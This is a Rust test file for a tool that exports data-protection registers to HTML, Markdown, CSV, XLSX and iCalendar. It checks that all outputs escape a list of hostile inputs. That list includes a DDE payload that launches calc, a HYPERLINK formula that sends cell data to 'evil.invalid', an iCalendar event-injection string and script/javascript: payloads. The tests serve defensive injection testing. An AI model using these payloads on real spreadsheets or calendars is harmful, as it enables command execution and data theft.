//! Registers: a page, Markdown, a file of values and a sheet show the same rows; whatever an author writes stays a text; days are
//! read back by a reader of calendars.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, clippy::panic, reason = "a test fails by a panic")]
#![expect(dead_code, reason = "the projects made by hand are for several tests")]

#[path = "../by_hand/mod.rs"]
mod by_hand;
mod project;
mod read;

use by_hand::{Project, said};
use charta_backends::{Artifact, Language, documents, emit_all, escape};
use charta_model::model::*;
use charta_model::ranges::Ranges;
use charta_model::rows::RowSpace;
use charta_model::time::{Day, Period};
use project::full;
use read::{agree, begins_like_a_formula, events_of, records_of, sheets_of, table_of, words};
use scraper::{Html, Selector};
use sha2::{Digest, Sha256};
use std::collections::{BTreeMap, BTreeSet};

/// Every register, by the name of its files.
const REGISTERS: [&str; 7] =
    ["processing", "processing-for-others", "transfers", "subprocessors", "waivers", "duties", "uses"];

const HOSTILE: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.invalid?\"&A1,\"click\")",
    "+1+1",
    "-1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r\n=1+1",
    "  \"=1+1",
    "'\"=1+1",
    "\u{feff}\u{200b}\u{1}=1+1",
    "\u{ff1d}1+1",
    "a;=1+1;b",
    "a,@x,\"=1+1\",b",
    "_x003D_1 {=1}",
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nSUMMARY:evil",
    "a\\,b;c\\n d: \"e\"",
    "<script>alert(1)</script> | [x](javascript:y)",
    "é ü 日本 𝄞 long enough to be folded: 日本日本日本日本日本日本日本日本日本日本日本日本日本日本日本日本日本日本日本",
];

fn made(project: &Project, language: Language) -> Vec<Artifact> {
    (documents::TARGET.emit)(&project.input(language, &[])).unwrap().artifacts
}

fn one<'a>(artifacts: &'a [Artifact], name: &str) -> &'a Artifact {
    let path = format!("documents/registers/{name}");
    artifacts.iter().find(|artifact| artifact.path == path).unwrap_or_else(|| panic!("no {path}"))
}

#[test]
fn pages_values_and_sheets_hold_the_same_and_only_texts() {
    for text in HOSTILE {
        for language in [Language::English, Language::French] {
            let artifacts = made(&full(text), language);
            let sheets = sheets_of(one(&artifacts, "registers.xlsx"));
            assert_eq!(sheets.len(), REGISTERS.len());
            for (name, (_, sheet)) in REGISTERS.iter().zip(&sheets) {
                let page = table_of(one(&artifacts, &format!("{name}.html")).text());
                let records = records_of(one(&artifacts, &format!("{name}.csv")));
                assert!(!page.1.is_empty(), "{name} has no row");
                agree(&page, &records, sheet).unwrap_or_else(|reason| panic!("{name}: {reason}"));
                for cell in records.iter().flatten() {
                    assert!(!begins_like_a_formula(cell), "{name}: {cell:?}");
                }
                let said = escape::cell(text);
                assert!(page.1.iter().flatten().flatten().any(|line| line.contains(&said)), "{name}: {said}");
                let markdown = one(&artifacts, &format!("{name}.md")).text();
                let (mark, besides) =
                    if ["processing", "uses"].contains(name) { ("### ", 0) } else { ("|", 2) };
                let lines = markdown.lines().filter(|line| line.starts_with(mark)).count();
                assert_eq!(lines, page.1.len() + besides, "{markdown}");
            }
        }
    }
}

#[test]
fn what_differs_is_seen() {
    let artifacts = made(&full("=1+1"), Language::English);
    let page = table_of(one(&artifacts, "waivers.html").text());
    let records = records_of(one(&artifacts, "waivers.csv"));
    let sheet = sheets_of(one(&artifacts, "registers.xlsx")).remove(4).1;
    assert_eq!(agree(&page, &records, &sheet), Ok(()));
    let mut bare = records.clone();
    let cell = bare[1].iter_mut().find(|cell| cell.starts_with('\'')).unwrap();
    *cell = cell.trim_start_matches('\'').to_owned();
    assert!(begins_like_a_formula(cell), "{cell}");
    assert!(agree(&page, &bare, &sheet).is_err());
    let mut short = sheet.clone();
    short.pop();
    assert!(agree(&page, &records, &short).is_err());
}

#[test]
fn every_row_leads_to_its_contract_and_to_its_source() {
    let artifacts = made(&full("Label"), Language::English);
    let all: BTreeSet<&str> = artifacts.iter().map(|artifact| artifact.path.as_str()).collect();
    for name in REGISTERS {
        let page = one(&artifacts, &format!("{name}.html")).text();
        for record in &records_of(one(&artifacts, &format!("{name}.csv")))[1..] {
            let to = record.last().unwrap();
            let (path, anchor) = to.split_once('#').unwrap_or((to, ""));
            assert!(all.contains(format!("documents/{path}").as_str()), "{name}: {to}");
            assert!(page.contains(&format!("\"../{to}\"")), "{name}: {to}");
            let target =
                artifacts.iter().find(|artifact| artifact.path == format!("documents/{path}")).unwrap();
            assert!(anchor.is_empty() || target.text().contains(&format!("id=\"{anchor}\"")), "{name}: {to}");
            let written = &record[record.len() - 2];
            // What is made to be published leads to no line of the contracts.
            assert_eq!(written.starts_with("a.charta:"), name != "uses", "{name}: {written}");
        }
    }
    let overview = artifacts.iter().find(|artifact| artifact.path == "documents/index.html").unwrap().text();
    for name in REGISTERS {
        assert!(overview.contains(&format!("\"registers/{name}.html\"")), "{name}");
    }
    // Whatever a page of the registers leads to is there.
    let link = Selector::parse("a[href]").unwrap();
    let pages = artifacts
        .iter()
        .filter(|it| it.path.starts_with("documents/registers/") && it.path.ends_with(".html"));
    for page in pages {
        for link in Html::parse_document(page.text()).select(&link) {
            let to = link.value().attr("href").unwrap().split('#').next().unwrap();
            let path = match to.strip_prefix("../") {
                _ if to.is_empty() => continue,
                Some(path) => format!("documents/{path}"),
                None => panic!("{to} on {}", page.path),
            };
            assert!(all.contains(path.as_str()), "{path} on {}", page.path);
        }
    }
}

fn rows(artifacts: &[Artifact], name: &str) -> Vec<BTreeMap<String, String>> {
    let records = records_of(one(artifacts, &format!("{name}.csv")));
    let row = |record: &Vec<String>| records[0].iter().cloned().zip(record.iter().cloned()).collect();
    records[1..].iter().map(row).collect()
}

#[test]
fn a_register_says_what_the_contracts_say() {
    let artifacts = made(&full("Label"), Language::English);
    let processing = rows(&artifacts, "processing");
    let purposes: Vec<&str> = processing.iter().map(|row| row["Purpose"].as_str()).collect();
    assert_eq!(purposes, ["research", "commercial"]);
    assert_eq!(processing[0]["Controllers"], "Label hospital — Label");
    assert_eq!(processing[0]["Special categories"], "health");
    assert_eq!(processing[0]["Reached outside the European Economic Area"], "us");
    assert!(processing[0]["Security measures"].contains("scheme"), "{:?}", processing[0]);
    let others = rows(&artifacts, "processing-for-others");
    assert_eq!((others.len(), others[0]["On behalf of"].as_str()), (1, "Label hospital — Label"));
    let transfers = rows(&artifacts, "transfers");
    let told: Vec<(&str, &str)> =
        transfers.iter().map(|row| (row["To"].as_str(), row["How"].as_str())).collect();
    assert_eq!(
        told,
        [
            ("Label institute", "receives"),
            ("Label cloudfirm", "is a sub-processor"),
            ("Label cloudfirm", "operates Label"),
            ("Label cloudfirm", "Label is supported from there"),
        ]
    );
    assert!(transfers[0]["Safeguards"].contains("clauses"));
    assert_eq!(transfers[1]["Safeguards"], "none that is known of");
    let engaged = rows(&artifacts, "subprocessors");
    let told: Vec<(&str, &str, &str)> = engaged
        .iter()
        .map(|row| {
            (row["Organisation"].as_str(), row["Named in the contract"].as_str(), row["Since"].as_str())
        })
        .collect();
    assert_eq!(told, [("Label cloudfirm", "yes", "2024-01-31"), ("Label storefirm", "no", "2024-01-31")]);
    let waivers = rows(&artifacts, "waivers");
    assert_eq!((waivers.len(), waivers[0]["State"].as_str()), (1, "holds"));
    assert_eq!(waivers[0]["Covers"], "TST001 test-reach: Label");
    let uses = rows(&artifacts, "uses");
    let told: Vec<&str> = uses.iter().map(|row| row["Commercial purpose"].as_str()).collect();
    assert_eq!(
        told,
        [
            "Charta’s standard library does not class it as commercial; whether it is, is for people to say",
            "yes"
        ]
    );
    // Sharing is below use, which is permitted, and forbidden.
    assert!(uses.iter().all(|row| row["May be passed on"] == "the contract does not permit it"));
    assert!(uses.iter().all(|row| row["Identifiability"] == "columns that help to single persons out"));
}

#[test]
fn what_is_forbidden_is_no_activity() {
    let mut project = full("Label");
    let forbid = charta_base::Id::new(1);
    let commercial = project.model.terms.iter().find(|(_, it)| &*it.about.path == "std.purposes.commercial");
    let commercial = commercial.unwrap().1.closure.clone();
    if let ClauseKind::Grant(grant) = &mut project.model.clauses[forbid].kind {
        grant.actions.value = Ranges::all();
        grant.purposes.value = commercial;
    }
    let project = Project { rules: Project::of(project.model.clone(), RowSpace::default()).rules, ..project };
    let artifacts = made(&project, Language::English);
    let purposes: Vec<String> =
        rows(&artifacts, "uses").into_iter().map(|row| row["Purpose"].clone()).collect();
    assert_eq!(purposes, ["research"]);
    assert_eq!(rows(&artifacts, "processing").len(), 1);
    assert_eq!(
        rows(&artifacts, "uses")[0]["May be passed on"],
        "to others than the parties, whom the clause does not name: share"
    );
}

#[test]
fn a_calendar_is_read_back() {
    for text in HOSTILE {
        for language in [Language::English, Language::French] {
            let artifacts = made(&full(text), language);
            let file = one(&artifacts, "duties.ics").text();
            assert!(file.lines().count() > 20 && !file.replace("\r\n", "").contains(['\n', '\r']));
            assert!(file.split("\r\n").all(|line| line.len() <= 75), "{file}");
            let events = events_of(file);
            // The terms of both contracts, an approval, a review, a waiver, a certificate, and three duties with a day.
            assert_eq!(events.len(), 9, "{file}");
            let names: BTreeSet<&str> = events.iter().map(|event| event["UID"].as_str()).collect();
            assert_eq!(names.len(), events.len());
            for event in &events {
                assert_eq!(event["DTSTAMP"], "20250301T000000Z");
                assert!(event["SUMMARY"].contains(&escape::cell(text)), "{event:?}");
            }
        }
    }
    let artifacts = made(&full("Label"), Language::English);
    let file = one(&artifacts, "duties.ics").text();
    // A text that ended its event would be seen.
    let another =
        "SUMMARY:x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:y\r\nDTSTART;VALUE=DATE:20250301\r\nSUMMARY:";
    assert_eq!(events_of(&file.replacen("SUMMARY:", another, 1)).len(), 10);
    let events = events_of(file);
    let told: Vec<(&str, &str, Option<&str>)> = events
        .iter()
        .map(|event| {
            let rule = event.get("RRULE").map(String::as_str);
            (event["DTSTART"].as_str(), event["CATEGORIES"].as_str(), rule)
        })
        .collect();
    let has =
        |expected: (&str, &str, Option<&str>)| assert!(told.contains(&expected), "{expected:?} in {told:#?}");
    has((
        "20250331",
        "duty",
        Some("FREQ=MONTHLY;INTERVAL=1;BYMONTHDAY=28,29,30,31;BYSETPOS=-1;UNTIL=20261231"),
    ));
    has((
        "20250131",
        "review",
        Some("FREQ=MONTHLY;INTERVAL=12;BYMONTHDAY=28,29,30,31;BYSETPOS=-1;UNTIL=20261231"),
    ));
    has(("20250601", "duty", None));
    has(("20250731", "waiver", None));
    has(("20261231", "certificate", None));
    has(("20261231", "end of a contract", None));
    has(("20270130", "duty", None));
}

#[test]
fn an_event_keeps_its_name_while_its_clause_does() {
    let names = |project: &Project| {
        let artifacts = made(project, Language::English);
        let events = events_of(one(&artifacts, "duties.ics").text());
        events
            .into_iter()
            .map(|event| (event["UID"].clone(), event["DTSTART"].clone()))
            .collect::<BTreeMap<_, _>>()
    };
    let before = names(&full("Label"));
    let mut project = full("Another label");
    project.model.contracts[charta_base::Id::new(0)].term =
        Some(said(Period { from: Day::parse("2024-01-31"), last: Day::parse("2027-12-31") }));
    let after = names(&project);
    assert_eq!(before.keys().collect::<Vec<_>>(), after.keys().collect::<Vec<_>>());
    let moved = before.iter().filter(|(name, day)| after[*name] != **day).count();
    assert_eq!(moved, 2, "the end of the term, and the duty that counts from it");
}

#[test]
fn an_assessment_leaves_to_people_what_is_theirs() {
    for language in [Language::English, Language::French] {
        let artifacts = made(&full("Label"), language);
        let page = one(&artifacts, "impact-c_study.html").text();
        let page = Html::parse_document(page);
        let row = Selector::parse("tbody tr").unwrap();
        let cell = Selector::parse("td").unwrap();
        let rows: Vec<Vec<String>> =
            page.select(&row).map(|row| row.select(&cell).map(words).collect()).collect();
        let feared: Vec<&Vec<String>> = rows.iter().filter(|row| row.len() == 7).collect();
        assert_eq!(feared.len(), 3);
        assert!(feared.iter().all(|row| !row[0].is_empty() && row[1..].iter().all(String::is_empty)));
        let questions: Vec<&Vec<String>> = rows.iter().filter(|row| row.len() == 3).collect();
        assert!(questions.len() > 15);
        assert!(questions.iter().all(|row| !row[1].is_empty() && row[2].is_empty()), "{questions:#?}");
        // A contract that permits nothing has nothing to assess.
        assert!(!artifacts.iter().any(|artifact| artifact.path.contains("impact-c_idle")));
    }
}

#[test]
fn an_empty_register_says_so_in_a_sentence() {
    for language in [Language::English, Language::French] {
        let artifacts = made(&Project::of(Model::default(), RowSpace::default()), language);
        let paragraph = Selector::parse("main section p, main > p").unwrap();
        for name in REGISTERS {
            let page = one(&artifacts, &format!("{name}.html")).text();
            assert!(!page.contains("<table"), "{name}");
            let page = Html::parse_document(page);
            let last = page.select(&paragraph).map(words).next_back().unwrap();
            assert!(last.ends_with('.') && last.len() > 15, "{name}: {last}");
            assert_eq!(records_of(one(&artifacts, &format!("{name}.csv"))).len(), 1, "the head alone");
        }
        assert!(events_of(one(&artifacts, "duties.ics").text()).is_empty());
        assert_eq!(sheets_of(one(&artifacts, "registers.xlsx")).len(), REGISTERS.len());
    }
}

#[test]
fn the_manifest_holds_a_workbook_by_its_bytes() {
    let project = full("Label");
    let artifacts = emit_all(&project.input(Language::English, &[]), &["documents".to_owned()]).unwrap();
    let workbook = one(&artifacts, "registers.xlsx");
    assert!(workbook.text().is_empty() && workbook.bytes().starts_with(b"PK"));
    let manifest = artifacts.iter().find(|artifact| artifact.path == "manifest.json").unwrap().text();
    let manifest: serde_json::Value = serde_json::from_str(manifest).unwrap();
    let listed = manifest["artifacts"].as_array().unwrap();
    let entry = listed.iter().find(|entry| entry["path"] == workbook.path.as_str()).unwrap();
    let digest: String = Sha256::digest(workbook.bytes()).iter().map(|byte| format!("{byte:02x}")).collect();
    assert_eq!(entry["sha256"], digest.as_str());
}

#[test]
fn the_same_project_gives_the_same_bytes() {
    let all = |text: &str| made(&full(text), Language::French);
    let first = all("Label");
    // The clock of the machine moves on between the two.
    std::thread::sleep(std::time::Duration::from_millis(2_100));
    assert_eq!(first, all("Label"));
    let other = all("Another");
    assert_ne!(one(&first, "registers.xlsx").bytes(), one(&other, "registers.xlsx").bytes());
}
